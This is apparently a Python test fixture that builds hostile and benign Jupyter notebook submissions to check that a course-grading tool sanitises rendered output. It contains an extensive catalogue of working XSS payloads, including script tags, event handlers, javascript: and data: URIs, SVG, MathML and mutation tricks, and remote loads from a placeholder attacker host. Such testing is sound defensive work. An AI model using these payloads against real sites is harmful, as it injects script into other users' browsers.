"""A submission full of things that try to run a script in the page of whoever reads it."""

from __future__ import annotations

import base64
import json

import nbformat
from nbformat import NotebookNode

JS = "document.title='pwned';window.pwned=1;alert(1)"
AWAY = "http://evil.invalid"
_PAGE = base64.b64encode(f"<script>parent.pwned=1;{JS}</script>".encode()).decode()
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'width="90" height="40" onload="{JS}"><script>{JS}</script>'
    f'<foreignObject width="90" height="40"><body xmlns="http://www.w3.org/1999/xhtml">'
    f'<img src="x" onerror="{JS}"/><iframe src="javascript:{JS}"/></body></foreignObject>'
    f'<animate onbegin="{JS}" attributeName="x" dur="1s"/>'
    f'<image href="{AWAY}/svg.png" width="9" height="9"/><a xlink:href="javascript:{JS}">'
    '<rect width="90" height="40" fill="green"/></a></svg>'
)
HTML = {
    "script": f"<p>one</p><script>{JS}</script>",
    "script-odd-case": f"<ScRiPt\n/x>{JS}</sCrIpT >",
    "script-nested": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "script-elsewhere": f"<script src='{AWAY}/a.js'></script><script type=module>{JS}</script>",
    "onerror": f'<img src="x" onerror="{JS}">',
    "onerror-slashes": f"<img/src=x/onerror={JS}>",
    "onload": f'<body onload="{JS}"><style onload="{JS}"></style>',
    "ontoggle": f'<details open ontoggle="{JS}">x</details>',
    "onfocus": f'<input autofocus onfocus="{JS}"><a tabindex=0 autofocus onfocus="{JS}">x</a>',
    "onanimation": "<style>@keyframes x{}</style>"
    f'<b style="animation:x 1s" onanimationstart="{JS}">x</b>',
    "javascript": f'<a href="javascript:{JS}" id="pwn">click</a>',
    "javascript-entities": f'<a href="&#106;ava&Tab;script&colon;{JS}">click</a>',
    "javascript-files": f'<a href="files/javascript:{JS}">click</a>',
    "javascript-control": f'<a href="\x01java\nscript:{JS}">click</a>',
    "data-link": f'<a href="data:text/html;base64,{_PAGE}">click</a>',
    "iframe": f'<iframe src="javascript:parent.{JS}"></iframe><iframe srcdoc="<script>parent.pwned'
    '=1</script>"></iframe>',
    "iframe-data": f'<iframe src="data:text/html;base64,{_PAGE}"></iframe>',
    "object": f'<object data="data:text/html;base64,{_PAGE}"></object><embed src="{AWAY}/e.swf">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/meta">',
    "base": f'<base href="{AWAY}/"><link rel="stylesheet" href="{AWAY}/l.css">',
    "form": f'<form action="{AWAY}"><button formaction="javascript:{JS}">Full credit</button>',
    "style": f"<style>@import url({AWAY}/s.css); body {{background: url({AWAY}/b.png)}}</style>",
    "style-attribute": f'<b style="background: url({AWAY}/c.png); position: fixed; inset: 0">x</b>',
    "style-escapes": f'<b style="color: red; background-color: \\75rl({AWAY}/d.png)">x</b>',
    "remote-image": f'<img src="{AWAY}/i.png" srcset="{AWAY}/j.png 2x"><video poster={AWAY}/v.png>',
    "svg": SVG,
    "svg-use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{JS}'/>#x\"/></svg>",
    "math": f'<math><maction actiontype="toggle" xlink:href="javascript:{JS}">x</maction></math>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={JS}&gt;">',
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "mutation-comment": f"<!--><script>{JS}</script>--><!--!><img src=x onerror={JS}>-->",
    "mutation-textarea": f'<textarea><img title="</textarea><img src=x onerror={JS}>">',
    "template": f"<template><script>{JS}</script></template><xmp><script>{JS}</script></xmp>",
    "page-parts": '<div class="navbar-fixed-top score" id="softmax-rows-comment" name="x" '
    'data-toggle="tooltip" data-html="true" data-title="<script>1</script>">over it</div>',
    "unclosed": f"<img src=x onerror={JS} <p",
    "attribute-breaks": f"\"'><script>{JS}</script>",
    "math-link": rf"$\href{{javascript:{JS}}}{{x}}$ &#92;(\href{{javascript:{JS}}}{{y}}\)",
    "math-entity": rf"$&#92;href{{javascript:{JS}}}{{x}}$ $&bsol;href{{javascript:{JS}}}{{x}}$",
    "math-split": rf"$\hr<!-- -->ef{{javascript:{JS}}}{{x}}$",
}
MARKDOWN = {
    **{f"html-{name}": f"words\n\n{text}\n\nmore" for name, text in HTML.items()},
    "link": f"[click](javascript:{JS}) [click]( <javascript:{JS}> ) <javascript:{JS}>",
    "link-entity": f"[click](&#x6A;avascript:{JS}) [click](files/javascript:{JS})",
    "link-reference": f"[click][1]\n\n[1]: javascript:{JS}",
    "link-breaks-out": f'[c](https://a.b/"onmouseover="{JS}) [c](https://a.b "\\" onclick=\\"x")',
    "image": f'![x]({AWAY}/m.png) ![x](x "\\" onerror=\\"{JS}") ![](javascript:{JS})',
    "image-data": f"![x](data:text/html;base64,{_PAGE})",
    "attachment-missing": "![x](attachment:nowhere.png)",
    "mermaid": f"```mermaid\n</pre><script>{JS}</script>\n```",
    "code": f"```html\n<script>{JS}</script>\n```\n`<script>{JS}</script>`",
    "code-ends-early": f"````\n```\n````\n<script>{JS}</script>\n`````",
    "math-inline": rf"$\href{{javascript:{JS}}}{{x}}$ and $<script>{JS}</script>$",
    "math-block": f"$$\n<img src=x onerror={JS}>\n$$",
    "math-environment": f"\\begin{{a}}<script>{JS}</script>\\end{{a}}",
    "heading": f"# <img src=x onerror={JS}> heading",
    "table": f"|a|b|\n|--|--|\n|<script>{JS}</script>|[x](javascript:{JS})|",
    "task": f'- [ ] <input class="task-list-item-checkbox" type="checkbox" onclick="{JS}"/>',
}
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
VIEW = "application/vnd.jupyter.widget-view+json"
#: Displays: their data, and their metadata.
BUNDLES: dict[str, tuple[dict, dict]] = {
    **{f"html-{name}": ({"text/html": text}, {}) for name, text in HTML.items()},
    **{f"md-{name}": ({"text/markdown": text}, {}) for name, text in MARKDOWN.items()},
    "javascript": ({"application/javascript": JS, "text/plain": "a script"}, {}),
    "javascript-only": ({"application/javascript": JS}, {}),
    "svg": ({"image/svg+xml": SVG, "text/plain": "a drawing"}, {}),
    "svg-not": ({"image/svg+xml": f'"><script>{JS}</script>'}, {}),
    "latex": ({"text/latex": rf"$\href{{javascript:{JS}}}{{x}}$<script>{JS}</script>"}, {}),
    "png-not": ({"image/png": f'x" onerror="{JS}', "text/plain": "no picture"}, {}),
    "png-metadata": (
        {"image/png": PNG},
        {"image/png": {"width": f"1 onerror={JS}", "height": 10, "unconfined": True}},
    ),
    "png-file": ({"image/png": PNG}, {"filenames": {"image/png": f"{AWAY}/f.png"}}),
    "isolated": ({"text/html": HTML["script"]}, {"text/html": {"isolated": True}}),
    "widget": ({VIEW: {"model_id": "x", "version_major": 2}, "text/plain": "IntSlider()"}, {}),
    "widget-broken": ({VIEW: {"none": f"</script><script>{JS}</script>"}}, {}),
    "mermaid": ({"text/vnd.mermaid": f"</pre><script>{JS}</script>"}, {}),
    "unknown": ({f"text/<script>{JS}</script>": "x", "application/pdf": "x"}, {}),
    "plain": ({"text/plain": f"<script>{JS}</script>\x1b[38m\x1b[2J\x9b31m\u202e"}, {}),
    "html-and-plain": ({"text/html": f"<script>{JS}</script>", "text/plain": "the text"}, {}),
}
STREAM = (
    f"<script>{JS}</script>\x1b]8;;javascript:{JS}\x07click\x1b]8;;\x07\x1b[38m\x1b[48;5m[red]x"
)


def hostile_notebook(node: NotebookNode) -> NotebookNode:
    """Put everything into a notebook of the tiny course, to be handed in."""
    code, text = nbformat.v4.new_code_cell, nbformat.v4.new_markdown_cell
    extra = [
        code(
            "import json\nfrom IPython.display import display\n"
            f"data, metadata = json.loads({json.dumps([data, metadata])!r})\n"
            "display(data, metadata=metadata, raw=True)"
        )
        for data, metadata in BUNDLES.values()
    ]
    extra += [
        code(f"# </pre><script>{JS}</script>\nprint({STREAM!r})"),
        code(f"raise ValueError({STREAM!r})"),
        code(f"raise type({f'<script>{JS}</script>'!r}, (Exception,), {{}})({STREAM!r})"),
        code(f"class X:\n    def _repr_html_(self):\n        return {HTML['onerror']!r}\nX()"),
    ]
    notes = [text(source) for source in MARKDOWN.values()]
    own = [*extra, *notes]
    for number, cell in enumerate(own):
        cell.id = f"own-{number}"
        cell.metadata["tags"] = [f'"><script>{JS}</script>']
    node.cells[3:3] = own
    node.cells.append(text("\n\n".join(MARKDOWN.values()), metadata=essay(node).metadata))
    node.cells.remove(essay(node))
    softmax = f"raise ValueError({f'<script>{JS}</script>'!r})"
    for cell in node.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "softmax":
            cell.source = f"def softmax(z, axis=-1):\n    # <script>{JS}</script>\n    {softmax}"
    node.metadata["title"] = f"<script>{JS}</script>"
    node.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script><script>{JS}"}}
    }
    return node


def honest_notebook(node: NotebookNode) -> NotebookNode:
    """Put into a notebook what learners show each other, and 9 MB that nobody will read."""
    sources = (
        "class Table:\n    def _repr_html_(self):\n"
        "        return '<table class=\"dataframe\"><thead><tr><th>n</th></tr></thead>'"
        "'<tbody><tr><td>1.5</td></tr></tbody></table>'\nTable()",
        "import matplotlib.pyplot as plt\nplt.plot([1, 2], [3, 4])\nplt.show()",
        "from IPython.display import Math\nMath(r'\\frac{1}{2}')",
        "from ipywidgets import IntSlider\nIntSlider(value=3)",
        *["for _ in range(99):\n    print('a long line ' * 2000)"] * 12,
        "class Big:\n    def _repr_html_(self):\n        return '<p>' + 'x' * 7_000_000\nBig()",
    )
    node.cells[3:3] = [
        nbformat.v4.new_code_cell(source, id=f"own-{number}")
        for number, source in enumerate(sources)
    ]
    sketch = nbformat.v4.new_markdown_cell(
        "My *note*, and a sketch: ![sketch](attachment:a.png)", id="mine"
    )
    sketch["attachments"] = {"a.png": {"image/png": PNG}}
    node.cells.insert(3, sketch)
    return node


def essay(node: NotebookNode) -> NotebookNode:
    """Return the cell of the written answer."""
    return next(c for c in node.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "essay")


def raw_notebook(node: NotebookNode, *, breaking: bool) -> NotebookNode:
    """Put all displays and notes into an autograded notebook, past the first wall.

    `breaking` includes what makes nbgrader's own pages fail altogether.
    """
    for number, (name, (data, metadata)) in enumerate(BUNDLES.items()):
        if name in ("plain", "md-attachment-missing", "widget-broken") and not breaking:
            continue
        out = nbformat.v4.new_output("display_data", data=data, metadata=metadata)
        node.cells.append(nbformat.v4.new_code_cell("x", id=f"raw-{number}", outputs=[out]))
    error = nbformat.v4.new_output(
        "error", ename="E", evalue="e", traceback=[STREAM if breaking else "x"]
    )
    stream = nbformat.v4.new_output("stream", name="stdout", text=STREAM if breaking else "x")
    node.cells.append(nbformat.v4.new_code_cell("x", id="raw-e", outputs=[error, stream]))
    for number, (name, source) in enumerate(MARKDOWN.items()):
        if name == "attachment-missing" and not breaking:
            continue
        node.cells.append(nbformat.v4.new_markdown_cell(source, id=f"note-{number}"))
    return node
